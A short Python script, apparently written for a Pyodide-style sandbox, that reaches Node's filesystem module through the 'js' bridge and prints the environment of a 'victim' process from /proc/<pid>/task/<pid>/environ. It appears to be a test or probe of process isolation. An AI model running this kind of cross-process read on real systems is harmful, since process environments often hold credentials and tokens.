"""Reads the environment of another process through one of its threads."""

import js

fs = js.process.getBuiltinModule("fs")
print(fs.readFileSync(f"/proc/{VICTIM_PID}/task/{VICTIM_PID}/environ", "utf8"))
